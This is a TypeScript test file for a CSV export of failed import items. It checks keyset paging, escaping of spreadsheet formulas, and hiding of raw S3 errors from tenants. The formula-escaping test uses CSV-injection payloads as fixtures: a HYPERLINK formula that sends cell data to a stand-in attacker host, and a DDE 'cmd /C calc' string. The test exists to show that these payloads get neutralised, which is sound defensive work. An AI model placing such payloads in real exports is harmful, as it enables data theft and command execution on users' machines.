// The failed-items CSV of a mass import (`errors <id> --csv`, `?format=csv`) pages by item number (keyset), never
// OFFSET: every failed item exactly once, in plan order, across page boundaries, item 0 included.
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Queryable } from '../worker/db/pool.js';
import { writeFailedItemsCsv } from '../worker/imports/mass-import/failed-items-export.js';
import { useTestEnvironment } from './harness.js';

const env = useTestEnvironment();

describe('failed-items CSV export', () => {
  it('writes every failed item once, in plan order, over keyset pages', async () => {
    const { rows } = await env.pool.query<{ id: number }>(
      "INSERT INTO jobs (kind, state, finished_at) VALUES ('mass-import', 'partial', now()) RETURNING id",
    );
    const jobId = rows[0]!.id;
    // 2,600 items; every item whose number is a multiple of 2 or 7 failed (item 0 among them): 1,486 failures, more
    // than one page of 1,000 and ending mid-page.
    await env.pool.query(
      `INSERT INTO import_items (job_id, item_no, relative_path, size_bytes, state, error_code, error_message, error_class, tries)
       SELECT $1, n, format('dir/file-%s, "x".pdf', n), n, CASE WHEN n % 2 = 0 OR n % 7 = 0 THEN 'failed' ELSE 'done' END,
              CASE WHEN n % 2 = 0 OR n % 7 = 0 THEN 'UNREADABLE' END, CASE WHEN n % 2 = 0 OR n % 7 = 0 THEN 'no' END,
              CASE WHEN n % 2 = 0 OR n % 7 = 0 THEN 'permanent' END, 1
       FROM generate_series(0, 2599) AS n`,
      [jobId],
    );
    const statements: string[] = [];
    const db = { query: (text: string, values?: unknown[]) => (statements.push(text), env.pool.query(text, values)) } as Queryable;
    const chunks: string[] = [];
    const out = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        chunks.push(chunk.toString('utf8'));
        callback();
      },
    });
    const written = await writeFailedItemsCsv(db, jobId, out, { operator: true });

    const expected = Array.from({ length: 2600 }, (_, n) => n).filter((n) => n % 2 === 0 || n % 7 === 0);
    expect(written).toBe(expected.length);
    const records = parse(chunks.join('')) as string[][];
    expect(records[0]).toEqual(['item_no', 'relative_path', 'size_bytes', 'error_code', 'error_message', 'tries', 'sha256']);
    expect(records.slice(1).map((record) => Number(record[0]))).toEqual(expected);
    expect(records[1]![1]).toBe('dir/file-0, "x".pdf');
    expect(statements).toHaveLength(2);
    for (const text of statements) expect(text).not.toMatch(/OFFSET/i);
  });

  it("escapes cells a spreadsheet would run as a formula, from file names and error messages alike", async () => {
    const { rows } = await env.pool.query<{ id: number }>(
      "INSERT INTO jobs (kind, state, finished_at) VALUES ('mass-import', 'partial', now()) RETURNING id",
    );
    const jobId = rows[0]!.id;
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open").pdf', "+cmd|' /C calc'!A0.pdf", '-2+3.pdf', '@SUM(1+1).pdf', "'=already.pdf", 'plain.pdf'];
    await env.pool.query(
      `INSERT INTO import_items (job_id, item_no, relative_path, size_bytes, state, error_code, error_message, error_class, tries)
       SELECT $1, n - 1, path, 1, 'failed', 'UNREADABLE', CASE WHEN n = 1 THEN '@SUM(1+1)' ELSE 'no' END, 'permanent', 1
       FROM unnest($2::text[]) WITH ORDINALITY AS input(path, n)`,
      [jobId, hostile],
    );
    const chunks: string[] = [];
    const out = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        chunks.push(chunk.toString('utf8'));
        callback();
      },
    });
    await writeFailedItemsCsv(env.pool, jobId, out, { operator: false });
    const records = (parse(chunks.join('')) as string[][]).slice(1);
    expect(records.map((record) => record[1])).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"open").pdf`,
      "'+cmd|' /C calc'!A0.pdf",
      "'-2+3.pdf",
      "'@SUM(1+1).pdf",
      "''=already.pdf",
      'plain.pdf',
    ]);
    expect(records[0]![4]).toBe("'@SUM(1+1)");
    expect(records[1]![0]).toBe('1');
  });

  it("gives S3's own text of a failed file to operators only; the tenant reads a plain sentence with its code", async () => {
    const { rows } = await env.pool.query<{ id: number }>(
      "INSERT INTO jobs (kind, tenant_id, state, finished_at) VALUES ('mass-import', 'exported', 'partial', now()) RETURNING id",
    );
    const jobId = rows[0]!.id;
    const sdkText = 'S3 400 KMS.DisabledException: arn:aws:kms:eu-west-1:123456789012:key/abcd is disabled.';
    await env.pool.query(
      `INSERT INTO import_items (job_id, item_no, relative_path, size_bytes, state, error_code, error_message, error_class, tries)
       VALUES ($1, 0, 'a.pdf', 1, 'failed', 'S3_KMS.DisabledException', $2, 'permanent', 3),
              ($1, 1, 'b.pdf', 1, 'failed', 'UNREADABLE', 'b.pdf cannot be read (EACCES)', 'permanent', 1)`,
      [jobId, sdkText],
    );
    const exported = async (operator: boolean) => {
      const chunks: string[] = [];
      const out = new Writable({
        write(chunk: Buffer, _encoding, callback) {
          chunks.push(chunk.toString('utf8'));
          callback();
        },
      });
      await writeFailedItemsCsv(env.pool, jobId, out, { operator });
      return (parse(chunks.join('')) as string[][]).slice(1).map((record) => record[4]);
    };
    expect(await exported(true)).toEqual([sdkText, 'b.pdf cannot be read (EACCES)']);
    expect(await exported(false)).toEqual([
      'S3 did not store this file (S3_KMS.DisabledException); the operators have the details',
      'b.pdf cannot be read (EACCES)',
    ]);
  });
});
